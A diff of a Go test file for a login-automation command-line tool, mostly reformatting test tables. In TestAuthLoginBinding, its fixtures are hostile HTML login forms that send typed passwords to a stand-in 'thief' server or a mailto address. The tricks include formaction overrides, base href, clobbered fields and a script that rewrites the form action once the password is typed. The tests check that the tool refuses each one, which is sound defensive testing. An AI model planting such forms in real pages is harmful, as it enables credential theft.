@@ -22,7 +22,9 @@ func loginTo(t *testing.T, s *loginSite, path string, more ...string) *sessionte
 	t.Helper()
 	c := host.NewClient(t)
 	c.Env["SKUA_KEYRING"] = "off"
-	c.DoWith(loginPassword+"\n", append([]string{"auth", "save", "app", "--url", s.URL + path, "--username", loginUser, "--password-stdin"}, more...)...)
+	c.DoWith(loginPassword+"\n",
+		append([]string{"auth", "save", "app", "--url", s.URL + path, "--username", loginUser, "--password-stdin"},
+			more...)...)
 	return c
 }
 
@@ -46,17 +48,27 @@ func TestAuthLogin(t *testing.T) {
 		log        []string // of the server
 		steps      []string
 	}{
-		{name: "both on one page", path: "/plain", log: []string{"password", "home"}, steps: []string{"username", "password"}},
+		{
+			name: "both on one page", path: "/plain", log: []string{"password", "home"},
+			steps: []string{"username", "password"},
+		},
 		{name: "sent by Enter", path: "/enter", log: []string{"password", "home"}, steps: []string{"username", "password"}},
-		{name: "one after the other", path: "/steps", log: []string{"password", "home"}, steps: []string{"username", "password"}},
+		{
+			name: "one after the other", path: "/steps", log: []string{"password", "home"},
+			steps: []string{"username", "password"},
+		},
 		{name: "in a frame", path: "/frame", log: []string{"password", "home"}, steps: []string{"username", "password"}},
 		{name: "with traps", path: "/trap", log: []string{"password", "home"}, steps: []string{"username", "password"}},
 		{name: "without a new page", path: "/spa", log: []string{"password"}, steps: []string{"username", "password"}},
 		{
-			name: "by selectors", path: "/spa", more: []string{"--username-selector", "#u", "--password-selector", "#p", "--submit-selector", "#b"},
-			log: []string{"password"}, steps: []string{"username", "password"},
+			name: "by selectors", path: "/spa",
+			more: []string{"--username-selector", "#u", "--password-selector", "#p", "--submit-selector", "#b"},
+			log:  []string{"password"}, steps: []string{"username", "password"},
 		},
-		{name: "a code", path: "/code", more: []string{"--totp", loginSecret}, log: []string{"password", "code", "home"}, steps: []string{"username", "password", "code"}},
+		{
+			name: "a code", path: "/code", more: []string{"--totp", loginSecret}, log: []string{"password", "code", "home"},
+			steps: []string{"username", "password", "code"},
+		},
 		{
 			name: "a digit a field", path: "/digits", more: []string{"--totp", "otpauth://totp/x?secret=" + loginSecret},
 			log: []string{"password", "code", "home"}, steps: []string{"username", "password", "code"},
@@ -107,19 +119,49 @@ func TestAuthLoginFails(t *testing.T) {
 		stage      string
 		says       string
 	}{
-		{name: "the page says so", path: "/plain", password: "wrong-one", code: fault.LoginFailed, stage: "rejected", says: "Incorrect e-mail or password."},
-		{name: "a page without a new one says so", path: "/spa", password: "wrong-one", code: fault.LoginFailed, stage: "rejected", says: "Those are not the details"},
-		{name: "the page says nothing", path: "/silent", code: fault.LoginFailed, stage: "unchanged", says: "the page shows no message about it"},
-		{name: "the server refuses", path: "/forbidden", code: fault.LoginFailed, stage: "rejected", says: "HTTP 403: Forbidden"},
-		{name: "the page shows the password", path: "/echo", code: fault.LoginFailed, stage: "rejected", says: "Invalid password: •••"},
+		{
+			name: "the page says so", path: "/plain", password: "wrong-one", code: fault.LoginFailed, stage: "rejected",
+			says: "Incorrect e-mail or password.",
+		},
+		{
+			name: "a page without a new one says so", path: "/spa", password: "wrong-one", code: fault.LoginFailed,
+			stage: "rejected", says: "Those are not the details",
+		},
+		{
+			name: "the page says nothing", path: "/silent", code: fault.LoginFailed, stage: "unchanged",
+			says: "the page shows no message about it",
+		},
+		{
+			name: "the server refuses", path: "/forbidden", code: fault.LoginFailed, stage: "rejected",
+			says: "HTTP 403: Forbidden",
+		},
+		{
+			name: "the page shows the password", path: "/echo", code: fault.LoginFailed, stage: "rejected",
+			says: "Invalid password: •••",
+		},
 		{name: "a code is asked for", path: "/code", code: fault.LoginFailed, stage: "code", says: "one-time code"},
-		{name: "a second factor elsewhere", path: "/approve", code: fault.LoginFailed, stage: "code", says: "Check your phone"},
+		{
+			name: "a second factor elsewhere", path: "/approve", code: fault.LoginFailed, stage: "code",
+			says: "Check your phone",
+		},
 		{name: "a new password", path: "/renew", code: fault.LoginFailed, stage: "new-password", says: "new password"},
-		{name: "no form", path: "/none", more: []string{"--timeout", "8000"}, code: fault.LoginFailed, stage: "form", says: "Timed out waiting for username field"},
-		{name: "a captcha", path: "/captcha", more: []string{"--timeout", "8000"}, code: fault.LoginFailed, stage: "captcha", says: "hCaptcha"},
+		{
+			name: "no form", path: "/none", more: []string{"--timeout", "8000"}, code: fault.LoginFailed, stage: "form",
+			says: "Timed out waiting for username field",
+		},
+		{
+			name: "a captcha", path: "/captcha", more: []string{"--timeout", "8000"}, code: fault.LoginFailed, stage: "captcha",
+			says: "hCaptcha",
+		},
 		{name: "something in front", path: "/banner", code: fault.TargetCovered, says: "covered by"},
-		{name: "a bad selector", path: "/plain", more: []string{"--password-selector", "#["}, code: fault.SelectorInvalid, says: "'#['"},
-		{name: "a selector of nothing", path: "/plain", more: []string{"--password-selector", "#none", "--timeout", "8000"}, code: fault.SelectorNotFound, says: "#none"},
+		{
+			name: "a bad selector", path: "/plain", more: []string{"--password-selector", "#["}, code: fault.SelectorInvalid,
+			says: "'#['",
+		},
+		{
+			name: "a selector of nothing", path: "/plain", more: []string{"--password-selector", "#none", "--timeout", "8000"},
+			code: fault.SelectorNotFound, says: "#none",
+		},
 	}
 	for _, test := range tests {
 		t.Run(test.name, func(t *testing.T) {
@@ -127,7 +169,8 @@ func TestAuthLoginFails(t *testing.T) {
 			s := startLoginSite(t)
 			c := loginTo(t, s, test.path)
 			if test.password != "" {
-				c.DoWith(test.password, "auth", "save", "app", "--url", s.URL+test.path, "--username", loginUser, "--password-stdin")
+				c.DoWith(test.password, "auth", "save", "app", "--url", s.URL+test.path, "--username", loginUser,
+					"--password-stdin")
 			}
 			r := c.Try(append([]string{"auth", "login", "app"}, test.more...)...)
 			require.True(t, fault.Is(r.Err, test.code), "%v", r.Err)
@@ -141,7 +184,8 @@ func TestAuthLoginFails(t *testing.T) {
 	}
 }
 
-// A login is typed into no page of another origin: neither the one that is open, nor one that the login's page leads to.
+// A login is typed into no page of another origin: neither the one that is open, nor one that the login's page leads
+// to.
 func TestAuthLoginOrigin(t *testing.T) {
 	t.Parallel()
 	s := startLoginSite(t)
@@ -179,8 +223,8 @@ func TestAuthLoginOrigin(t *testing.T) {
 	require.Equal(t, []string{"password", "home"}, other.noted())
 }
 
-// What a call says widens nothing of what a login was bound to when it was saved: neither the page, nor where its form sends, nor what kind of
-// field takes the password.
+// What a call says widens nothing of what a login was bound to when it was saved: neither the page, nor where its form
+// sends, nor what kind of field takes the password.
 func TestAuthLoginBinding(t *testing.T) {
 	t.Parallel()
 	other := startLoginSite(t)
@@ -196,17 +240,23 @@ func TestAuthLoginBinding(t *testing.T) {
 	t.Cleanup(thief.Close)
 	const fields = `<input name=email type=email><input name=pass type=password>`
 	pages := map[string]string{
-		"/action":     `<form method=post action="` + thief.URL + `/">` + fields + `<button>Sign in</button></form>`,
-		"/formaction": `<form method=post action=/check>` + fields + `<button formaction="` + thief.URL + `/">Sign in</button></form>`,
-		"/enter":      `<form method=post action=/check>` + fields + `<input type=submit style="display:none" formaction="` + thief.URL + `/"></form>`,
-		"/base":       `<base href="` + thief.URL + `/"><form method=post action=in>` + fields + `<button>Sign in</button></form>`,
-		"/owner":      `<form id=f method=post action="` + thief.URL + `/"></form><form action=/check><input name=email form=f><input name=pass type=password form=f><button form=f>Sign in</button></form>`,
-		"/clobbered":  `<form method=post action="` + thief.URL + `/"><input type=hidden name=action value=/check>` + fields + `<button>Sign in</button></form>`,
-		"/mail":       `<form method=post action="mailto:thief@example.com">` + fields + `<button>Sign in</button></form>`,
-		"/text":       `<form method=post action=/check><input name=email type=email><input name=pass type=password><input name=note id=note><button>Sign in</button></form>`,
-		"/turns":      `<form method=post action=/check><input name=email type=email><input name=pass type=password onfocus="this.type='text'"><button>Sign in</button></form>`,
+		"/action": `<form method=post action="` + thief.URL + `/">` + fields + `<button>Sign in</button></form>`,
+		"/formaction": `<form method=post action=/check>` + fields + `<button formaction="` + thief.URL +
+			`/">Sign in</button></form>`,
+		"/enter": `<form method=post action=/check>` + fields + `<input type=submit style="display:none" formaction="` +
+			thief.URL + `/"></form>`,
+		"/base": `<base href="` + thief.URL + `/"><form method=post action=in>` + fields +
+			`<button>Sign in</button></form>`,
+		"/owner": `<form id=f method=post action="` + thief.URL +
+			`/"></form><form action=/check><input name=email form=f><input name=pass type=password form=f><button form=f>Sign in</button></form>`,
+		"/clobbered": `<form method=post action="` + thief.URL + `/"><input type=hidden name=action value=/check>` + fields +
+			`<button>Sign in</button></form>`,
+		"/mail":  `<form method=post action="mailto:thief@example.com">` + fields + `<button>Sign in</button></form>`,
+		"/text":  `<form method=post action=/check><input name=email type=email><input name=pass type=password><input name=note id=note><button>Sign in</button></form>`,
+		"/turns": `<form method=post action=/check><input name=email type=email><input name=pass type=password onfocus="this.type='text'"><button>Sign in</button></form>`,
 		"/later": `<form method=post action=/check><input name=email type=email><input name=pass type=password><button>Sign in</button></form>
-			<script>document.querySelector('[name=pass]').addEventListener('input', () => { document.forms[0].action = '` + thief.URL + `/' })</script>`,
+			<script>document.querySelector('[name=pass]').addEventListener('input', () => { document.forms[0].action = '` +
+			thief.URL + `/' })</script>`,
 	}
 	bound := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		if html, ok := pages[r.URL.Path]; ok {
@@ -223,8 +273,14 @@ func TestAuthLoginBinding(t *testing.T) {
 		code       fault.Code
 	}{
 		{name: "another address", path: "/text", more: []string{"--url", other.URL + "/plain"}},
-		{name: "another origin allowed by the call", path: "/text", more: []string{"--url", other.URL + "/plain", "--allow-origin", other.URL}},
-		{name: "a field that shows what it holds", path: "/text", more: []string{"--password-selector", "#note"}, field: "#note"},
+		{
+			name: "another origin allowed by the call", path: "/text",
+			more: []string{"--url", other.URL + "/plain", "--allow-origin", other.URL},
+		},
+		{
+			name: "a field that shows what it holds", path: "/text", more: []string{"--password-selector", "#note"},
+			field: "#note",
+		},
 		{name: "a form that posts elsewhere", path: "/action", field: "[name=pass]"},
 		{name: "a button that posts elsewhere", path: "/formaction", field: "[name=pass]"},
 		{name: "Enter that posts elsewhere", path: "/enter", field: "[name=pass]"},
@@ -232,7 +288,10 @@ func TestAuthLoginBinding(t *testing.T) {
 		{name: "fields of another form", path: "/owner", field: "[name=pass]"},
 		{name: "a field in the action's name", path: "/clobbered", field: "[name=pass]"},
 		{name: "mail", path: "/mail", field: "[name=pass]"},
-		{name: "a button that the call names", path: "/formaction", more: []string{"--submit-selector", "button"}, field: "[name=pass]"},
+		{
+			name: "a button that the call names", path: "/formaction", more: []string{"--submit-selector", "button"},
+			field: "[name=pass]",
+		},
 		{name: "a password field that turns into another", path: "/turns", field: "[name=pass]"},
 		{name: "an action that changes once the password is there", path: "/later"},
 	}
@@ -241,7 +300,8 @@ func TestAuthLoginBinding(t *testing.T) {
 			t.Parallel()
 			c := host.NewClient(t)
 			c.Env["SKUA_KEYRING"] = "off"
-			c.DoWith(loginPassword+"\n", "auth", "save", "app", "--url", bound.URL+test.path, "--username", loginUser, "--password-stdin")
+			c.DoWith(loginPassword+"\n", "auth", "save", "app", "--url", bound.URL+test.path, "--username", loginUser,
+				"--password-stdin")
 			r := c.Try(append([]string{"auth", "login", "app", "--timeout", "8000"}, test.more...)...)
 			require.True(t, fault.Is(r.Err, fault.PolicyBlocked), "%v %s", r.Err, sessiontest.Everything(r))
 			require.NotContains(t, sessiontest.Everything(r), "Logged in")
@@ -269,7 +329,10 @@ func TestAuthVault(t *testing.T) {
 	for _, args := range [][]string{
 		{"auth", "save", "a", "--url", "example.com", "--username", "u"},
 		{"auth", "save", "bad name", "--url", "example.com", "--username", "u", "--password", loginPassword},
-		{"auth", "save", "a", "--url", "example.com", "--username", "u", "--password", loginPassword, "--password", "hunter2"},
+		{
+			"auth", "save", "a", "--url", "example.com", "--username", "u", "--password", loginPassword, "--password",
+			"hunter2",
+		},
 		{"auth", "save", "a", "--url", "ftp://x", "--username", "u", "--password", loginPassword},
 		{"auth", "save", "a", "--url", "example.com", "--username", "u", "--password", loginPassword, "--totp", "hunter2!"},
 	} {
